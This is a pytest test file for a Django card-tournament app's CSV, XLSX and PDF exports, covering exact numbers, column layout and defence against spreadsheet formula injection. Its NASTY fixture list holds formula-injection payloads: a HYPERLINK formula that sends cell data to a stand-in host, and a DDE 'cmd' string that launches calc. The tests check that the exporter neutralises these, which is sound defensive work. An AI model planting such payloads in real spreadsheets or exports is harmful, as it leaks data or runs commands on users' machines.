"""Standings and results as CSV, XLSX and PDF: the columns and values are the standings
snapshot's and the seats', numbers stay exact numbers, and text a spreadsheet would run as a
formula is neutralised."""

from __future__ import annotations

import csv
import io
import re
import shutil
import subprocess
import zlib
from decimal import Decimal
from fractions import Fraction

import pytest
from django.contrib.auth import get_user_model
from django.db import transaction
from django.test import override_settings
from django.utils import translation
from openpyxl import load_workbook

from tests.conftest import require
from tests.tournaments.builders import spades_hand
from tournaments import services
from tournaments.demo import club as demo
from tournaments.exports import pdf, tabular
from tournaments.exports.tabular import exact_number, neutralise
from tournaments.models import Match, Player, Rating, Seat, Team, Tournament
from tournaments.services import Actor, standings

pytestmark = pytest.mark.django_db

NASTY = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
]
SET_HAND = spades_hand("N", ["4", "4", "4", "4"], {"N": 1, "E": 6, "S": 1, "W": 5})  # NS -40


@pytest.fixture(scope="module")
def built(django_db_setup, django_db_blocker):
    """The tournaments these tests read, built once for the module (each test's changes roll
    back with its transaction) and removed afterwards."""
    with django_db_blocker.unblock(), override_settings(REDIS_URL=None):
        try:
            yield {"solo": build_solo().pk, "nasty": build_nasty().pk}
        finally:
            Tournament.objects.all().delete()
            Team.objects.all().delete()
            Player.objects.all().delete()
            Rating.objects.all().delete()
            get_user_model().objects.all().delete()


def build_solo() -> Tournament:
    """The demo's Solo Whist evening (halves in match points, quarters in points)."""
    return demo.build_solo_whist(5, players=8, rounds=2)


@transaction.atomic
def build_nasty() -> Tournament:
    """A Spades Swiss whose teams are named like formulas, one round played: every NS side
    goes set (a negative score)."""
    director = Actor(user=get_user_model().objects.create_user("nasty-director"))
    tournament = services.create_tournament(
        actor=director,
        name="金曜スペード =1+1",
        game="spades",
        rules="standard",
        format="swiss",
        rounds=2,
    )
    services.open_registration(tournament=tournament, actor=director)
    for n, name in enumerate(NASTY):
        services.register_entry(
            tournament=tournament, actor=director, name=name, players=[f"佐藤 {n}", f"=cmd {n}"]
        )
    round_ = services.generate_round(tournament=tournament, actor=director)
    services.publish_round(round=round_, actor=director)
    for match in Match.objects.filter(round=round_):
        services.submit_hand(match=match, actor=director, record=SET_HAND)
        services.finish_match(match=match, actor=director)
    services.close_round(round=round_, actor=director)
    return tournament


@pytest.fixture
def solo(built, settings) -> Tournament:
    settings.REDIS_URL = None
    return Tournament.objects.get(pk=built["solo"])


@pytest.fixture
def nasty(built, settings) -> Tournament:
    settings.REDIS_URL = None
    return Tournament.objects.get(pk=built["nasty"])


def read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "a UTF-8 byte-order mark, for Excel"
    return list(csv.reader(io.StringIO(data[3:].decode("utf-8"), newline="")))


def snapshot_payload(tournament) -> dict:
    latest = standings.latest(tournament=tournament)
    assert latest.snapshot is not None and not latest.stale
    return latest.snapshot.payload


# -- values ----------------------------------------------------------------------------------


def test_exact_number_writes_ending_fractions_exactly_and_rounds_only_endless_ones():
    assert exact_number("11/2") == Decimal("5.5") and str(exact_number("11/2")) == "5.5"
    assert str(exact_number(Fraction(-95, 4))) == "-23.75"
    assert str(exact_number(Fraction(1, 1024))) == "0.0009765625"  # exact, however long
    assert exact_number(Decimal("2.0")) == 2 and isinstance(exact_number(Decimal("2.0")), int)
    assert exact_number(-6) == -6
    assert exact_number("-14/3") == Decimal("-4.667")  # a third never ends: 3 places
    assert exact_number("") is None and exact_number(None) is None


def test_neutralise_prefixes_text_that_starts_a_formula_and_never_touches_numbers():
    for text in ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "\uff1d1+1"]:
        assert neutralise(text) == "'" + text
    for text in ["Aces", "1-2", "佐藤", ""]:
        assert neutralise(text) == text
    assert neutralise(-70) == -70 and neutralise(Decimal("-0.5")) == Decimal("-0.5")


# -- standings --------------------------------------------------------------------------------


def test_standings_csv_columns_are_the_pages_then_the_tiebreak_chain_and_equal_the_snapshot(solo):
    """A table-of-four event (issue 29): played and each player's own total, then the chain
    (the total first, then the places); no won / drawn / lost (second of four is no loss)."""
    payload = snapshot_payload(solo)
    rows = read_csv(tabular.to_csv(tabular.standings_sheet(solo)))
    chain = payload["tiebreaks"]
    assert chain == ["points_for", "placings", "buchholz", "head_to_head"]
    assert rows[0] == [
        "Rank",
        "Entry",
        "Players",
        "Played",
        "Total points",
        "Placings",
        "Buchholz",
        "Head to head",
    ]
    assert len(rows) == 1 + len(payload["rows"]) == 9
    for line, row in zip(rows[1:], payload["rows"], strict=True):
        values = row["values"]
        assert int(line[0]) == row["rank"] and line[1] == row["name"]
        expected = [values["played"], *(values[n] for n in chain)]
        assert [Fraction(cell) for cell in line[3:]] == [
            Fraction(str(exact_number(v))) for v in expected
        ]
    totals = [Fraction(line[4]) for line in rows[1:]]
    assert totals == sorted(totals, reverse=True), "ranked by each player's own total"


def test_standings_xlsx_opens_with_a_bold_frozen_header_and_exact_numbers(solo):
    payload = snapshot_payload(solo)
    book = load_workbook(io.BytesIO(tabular.to_xlsx(tabular.standings_sheet(solo))))
    sheet = book.active
    assert sheet.title == "Standings"
    assert sheet.freeze_panes == "A2"
    assert all(cell.font.b for cell in sheet[1])
    assert sheet.column_dimensions["B"].width >= len("Uma Watanabe")
    for index, row in enumerate(payload["rows"], 2):
        assert sheet.cell(index, 1).value == row["rank"]
        places = sheet.cell(index, 6).value  # placings: halves where places are shared
        assert isinstance(places, int | float) and Fraction(str(places)) == Fraction(
            str(row["values"]["placings"])
        )
        points = sheet.cell(index, 5).value  # points_for: quarters, often negative
        assert isinstance(points, int | float)
        assert Fraction(str(points)) == Fraction(str(row["values"]["points_for"]))


def test_standings_without_a_snapshot_are_the_headings_alone(built):
    someone = Actor(user=get_user_model().objects.create_user("new-director"))
    tournament = services.create_tournament(
        actor=someone, name="Next week", game="spades", rules="standard", format="swiss", rounds=3
    )
    rows = read_csv(tabular.to_csv(tabular.standings_sheet(tournament)))
    assert rows == [
        [
            "Rank",
            "Entry",
            "Players",
            "Played",
            "Won",
            "Drawn",
            "Lost",
            "Match points",
            "Point difference",
            "Buchholz",
            "Head to head",
            "Wins",
        ]
    ]


# -- formula injection ------------------------------------------------------------------------


def test_formula_names_are_neutralised_in_csv_while_negative_scores_stay_numbers(nasty):
    standings_rows = read_csv(tabular.to_csv(tabular.standings_sheet(nasty)))
    names = {row[1] for row in standings_rows[1:]}
    assert names == {"'" + name for name in NASTY}
    assert all(row[2].startswith("佐藤") for row in standings_rows[1:])
    differences = {row[8] for row in standings_rows[1:]}  # point difference: numbers
    assert any(d.startswith("-") for d in differences)
    assert all(re.fullmatch(r"-?\d+", d) for d in differences)
    results = read_csv(tabular.to_csv(tabular.results_sheet(nasty)))
    header = results[0]
    points = [row[header.index("Points for")] for row in results[1:]]
    assert "-40" in points, "a set NS side: a negative number, not neutralised"
    for row in results[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "@")), cell
            if cell.startswith("-"):
                assert re.fullmatch(r"-\d+(\.\d+)?", cell), cell


def test_formula_names_are_plain_text_in_xlsx_and_negative_scores_numbers(nasty):
    book = load_workbook(io.BytesIO(tabular.to_xlsx(tabular.results_sheet(nasty))))
    sheet = book.active
    header = [c.value for c in sheet[1]]
    entry, points = header.index("Entry") + 1, header.index("Points for") + 1
    seen = set()
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f", f"{cell.coordinate} would run as a formula"
        seen.add(row[entry - 1].value)
        score = row[points - 1].value
        assert isinstance(score, int), "scores are numbers"
    assert seen == {"'" + name for name in NASTY}
    scores = [row[points - 1].value for row in sheet.iter_rows(min_row=2)]
    assert -40 in scores


# -- results ------------------------------------------------------------------------------------


def test_results_list_every_seat_of_the_published_rounds_with_outcome_and_match_points(solo):
    sheet = tabular.results_sheet(solo)
    seats = Seat.objects.filter(match__round__tournament=solo)
    assert len(sheet.rows) == seats.count() == 16
    header = sheet.headers
    assert header == [
        "Round",
        "Table",
        "State",
        "Seats",
        "Entry",
        "Players",
        "Opponents",
        "Points for",
        "Points against",
        "Outcome",
        "Place",
        "Match points",
    ]
    by_key = {(s.match.round.number, s.match.table.number, s.seats): s for s in seats}
    for row in sheet.rows:
        seat = by_key[(row[0], row[1], row[3])]
        assert row[4] == seat.entry.name
        assert Fraction(str(row[7])) == Fraction(seat.points_for)
        assert Fraction(str(row[11])) == Fraction(str(seat.match_points))
        assert row[9] == f"Place {seat.place}", "a table of four: its place, never 'Loss'"
        assert row[10] == seat.place
    first_table = [row[3] for row in sheet.rows[:4]]
    assert first_table == ["N", "E", "S", "W"], "seats clockwise from North"


def test_results_follow_the_active_language(solo):
    with translation.override("ja"):
        sheet = tabular.results_sheet(solo)
        assert sheet.headers[0] == translation.gettext("Round")
    assert {row[2] for row in sheet.rows} == {"終了"}  # Match.State "Finished"


# -- PDF ---------------------------------------------------------------------------------------


def inflated(data: bytes) -> bytes:
    """The PDF with its compressed streams inflated, to search without a PDF library."""
    blobs = [data]
    for found in re.finditer(rb"stream\r?\n", data):
        try:
            blobs.append(zlib.decompressobj().decompress(data[found.end() :]))
        except zlib.error:
            continue
    return b"".join(blobs)


def pdf_strings(data: bytes) -> str:
    """The PDF's text strings (document title, bookmarks)."""
    blob = inflated(data)
    texts = [
        bytes.fromhex(h.decode()).decode("utf-16-be", "replace")
        for h in re.findall(rb"<feff([0-9a-fA-F]+)>", blob)
    ]
    texts += [t.decode("latin-1") for t in re.findall(rb"\(([^()\\]*)\)", blob)]
    return "\n".join(texts)


def cjk_font_installed() -> bool:
    if shutil.which("fc-list") is None:
        return False
    listed = subprocess.run(["fc-list", ":lang=ja"], capture_output=True, text=True, check=False)
    return bool(listed.stdout.strip())


def test_standings_pdf_is_an_a4_document_naming_the_tournament(solo):
    from weasyprint import HTML

    data = pdf.standings_pdf(solo)
    assert data.startswith(b"%PDF-")
    assert "Solo Whist Evening" in pdf_strings(data)
    page = HTML(string=pdf.standings_html(solo)).render().pages[0]
    assert (round(page.width * 25.4 / 96), round(page.height * 25.4 / 96)) == (210, 297)


def test_results_pdf_repeats_table_headings_and_numbers_its_pages(solo):
    html = pdf.results_html(solo)
    assert "display: table-header-group" in html and "counter(pages)" in html
    assert html.count("<thead>") == solo.round_set.count()
    assert pdf.results_pdf(solo).startswith(b"%PDF-")


def test_japanese_names_render_in_a_cjk_font(nasty):
    require(cjk_font_installed(), "needs a Japanese font: apt-get install fonts-noto-cjk")
    with translation.override("ja"):
        data = pdf.standings_pdf(nasty)
    assert "金曜スペード =1+1" in pdf_strings(data)
    assert b"Noto-Sans-CJK-JP" in inflated(data) or b"CJK" in inflated(data), (
        "a CJK font is embedded for the Japanese text"
    )
